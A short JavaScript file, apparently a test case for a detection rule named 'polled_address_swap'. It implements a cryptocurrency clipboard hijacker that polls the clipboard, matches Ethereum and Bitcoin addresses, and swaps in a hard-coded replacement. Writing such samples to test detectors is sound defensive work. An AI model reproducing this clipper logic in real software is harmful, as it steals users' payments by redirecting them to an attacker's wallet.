'use strict';
// a clipper whose clipboard commands live in another module of the package
const p = require('./platform');
const R = [/^0x[a-fA-F0-9]{40}$/, /^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,59}$/];
const MINE = ['0x9b', '4E2a', '17c0'].join('');
function tick() {
  // ruleid: polled_address_swap
  const cur = p.readSync().trim();
  if (R.some((re) => re.test(cur)) && cur !== MINE) p.writeSync(MINE);
}
setInterval(tick, 1500);
